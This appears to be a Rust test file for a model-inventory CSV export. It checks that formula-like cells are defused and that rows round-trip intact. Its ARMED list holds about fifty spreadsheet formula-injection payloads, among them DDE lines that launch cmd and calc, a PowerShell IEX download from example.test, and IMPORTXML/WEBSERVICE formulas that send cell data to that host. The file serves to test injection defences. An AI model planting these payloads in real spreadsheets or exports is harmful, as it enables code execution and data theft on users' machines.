use proptest::prelude::*;
use time::macros::{date, datetime};

use super::*;
use crate::model::{ModelIdentifier, Tags};
use crate::samples::{model_id, model_in};
use crate::status::ValidationStatus;

/// Cells that spreadsheets run, or have run, as formulas.
const ARMED: &[&str] = &[
    "=1+1",
    "=cmd|'/C calc'!A0",
    "=cmd|'/C powershell IEX(wget example.test/x)'!A0",
    "=HYPERLINK(\"http://example.test?x=\"&A1,\"Open\")",
    "=IMPORTXML(CONCAT(\"http://example.test?v=\",CONCATENATE(A2:E2)),\"//a/a10\")",
    "=IMPORTFEED(\"http://example.test\")",
    "=IMPORTHTML(\"http://example.test\",\"table\",1)",
    "=IMPORTRANGE(\"https://example.test/x\",\"A1\")",
    "=IMAGE(\"https://example.test/i.png\")",
    "=WEBSERVICE(\"http://example.test/\"&A1)",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A",
    "=SUM(1+1)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    "=1+1\",\"x",
    "=1+1'\" ;,=1+1",
    "=\"x\"&CHAR(10)",
    "=A1",
    "=",
    "==1",
    "= 1",
    "=\t1",
    "=1\r\n=2",
    "+1",
    "+1+cmd|' /C calc'!A0",
    "+49 30 123456",
    "+thespanishinquisition(cmd|'/c calc.exe'!A",
    "+",
    "-1",
    "-2+3+cmd|' /C calc'!A0",
    "-cmd|'/C calc'!A0",
    "- bullet",
    "-",
    "--",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(cmd|'/c calc'!A0)",
    "@mention",
    "@",
    "\t=1+1",
    "\tplain",
    "\r=1+1",
    "\r\n=1+1",
    "\n=1+1",
    "\0=1+1",
    "\0",
    "＝1+1",
    "＝cmd|'/C calc'!A0",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=\u{feff}1",
    "=ü",
    "=\"\"",
];

/// Cells that are what they seem.
const HARMLESS: &[&str] = &[
    "",
    "a",
    "1",
    "1=1",
    "a+b",
    "a-b",
    "x@y.example",
    "'=1",
    "\"=1\"",
    ",=1",
    ";=1",
    " =1",
    "(=1)",
    "{\"a\":\"=1\"}",
    "2026-03-13",
    "ä",
    "–1",
    "|cmd",
    "%0A=1",
    "!A1",
    "#REF",
];

#[test]
fn formulas_are_defused_and_nothing_else() {
    assert!(ARMED.len() >= 50, "{} payloads", ARMED.len());
    for cell in ARMED {
        assert_eq!(defuse(cell), format!("'{cell}"), "{cell:?}");
    }
    for cell in HARMLESS {
        assert_eq!(defuse(cell), *cell, "{cell:?}");
    }
}

fn described(text: &str) -> RegisteredModel {
    RegisteredModel {
        description: Some(text.to_owned()),
        ..model_in(ValidationStatus::Draft)
    }
}

/// Reads lines with a CSV reader that is not ours.
fn read(bytes: &[u8]) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes);
    let records = reader.records().map(Result::unwrap);
    let rows = records.map(|record| record.iter().map(str::to_owned).collect());
    rows.collect()
}

#[test]
fn every_payload_survives_defused_in_its_own_cell() {
    for payload in ARMED.iter().chain(HARMLESS) {
        let rows = read(&InventoryCsv::row(&described(payload)));
        assert_eq!(rows.len(), 1, "{payload:?}");
        assert_eq!(rows[0].len(), COLUMNS.len(), "{payload:?}");
        assert_eq!(rows[0][7], defuse(payload), "{payload:?}");
    }
}

#[test]
fn the_header_is_the_contracts() {
    assert_eq!(
        InventoryCsv::header(),
        b"id,model_id,provider,display_name,risk_tier,validation_status,owner,description,tags,\
          last_seen_at,created_at,updated_at\r\n"
    );
}

#[test]
fn a_row_is_written_byte_for_byte() {
    let tags = [("b", "x,y"), ("a", "say \"no\"")].map(|(k, v)| (k.to_owned(), v.to_owned()));
    let model = RegisteredModel {
        model_id: ModelIdentifier::parse("gpt-4o").unwrap(),
        display_name: "-GPT, 4o".to_owned(),
        owner: Some("risk@example.com".to_owned()),
        description: Some("two\r\nlines".to_owned()),
        tags: Tags::parse(tags.into()).unwrap(),
        last_seen_at: Some(datetime!(2026-03-12 23:00 UTC)),
        ..model_in(ValidationStatus::Validated)
    };
    let expected = format!(
        "{},gpt-4o,acme,\"'-GPT, 4o\",tier_3,validated,risk@example.com,\"two\r\nlines\",\
         \"{{\"\"a\"\":\"\"say \\\"\"no\\\"\"\"\",\"\"b\"\":\"\"x,y\"\"}}\",2026-03-12T23:00:00Z,\
         2026-03-13T09:00:00.123Z,2026-03-13T09:00:00.123Z\r\n",
        model_id()
    );
    assert_eq!(
        String::from_utf8(InventoryCsv::row(&model)).unwrap(),
        expected
    );
}

#[test]
fn absent_values_are_empty_cells() {
    let rows = read(&InventoryCsv::row(&model_in(ValidationStatus::Draft)));
    assert_eq!(rows[0][6..10], ["", "", "{}", ""]);
}

#[test]
fn rows_are_appended_to_the_buffer() {
    let mut buffer = InventoryCsv::header();
    for text in ["first", "second"] {
        InventoryCsv::write(&described(text), &mut buffer);
    }
    let rows = read(&buffer);
    assert_eq!(rows.len(), 3);
    assert_eq!(
        (rows[1][7].as_str(), rows[2][7].as_str()),
        ("first", "second")
    );
}

#[test]
fn the_file_is_named_for_its_day() {
    let name = file_name(date!(2026 - 03 - 03), "csv");
    assert_eq!(name, "model-inventory-2026-03-03.csv");
}

proptest! {
    #[test]
    fn any_text_comes_back_defused_from_another_reader(
        name in "[^\\x00-\\x1f]{1,20}",
        text in "(?s).{0,40}",
        owner in "[=+@,;\"'\r\n\t -]{0,6}",
    ) {
        let model = RegisteredModel {
            display_name: name.clone(),
            owner: Some(owner.clone()),
            ..described(&text)
        };
        let rows = read(&InventoryCsv::row(&model));
        prop_assert_eq!(rows.len(), 1);
        prop_assert_eq!(&rows[0][3], &*defuse(&name));
        prop_assert_eq!(&rows[0][6], &*defuse(&owner));
        prop_assert_eq!(&rows[0][7], &*defuse(&text));
        for cell in &rows[0] {
            prop_assert_eq!(&*defuse(cell), cell.as_str(), "no cell is armed");
        }
    }
}
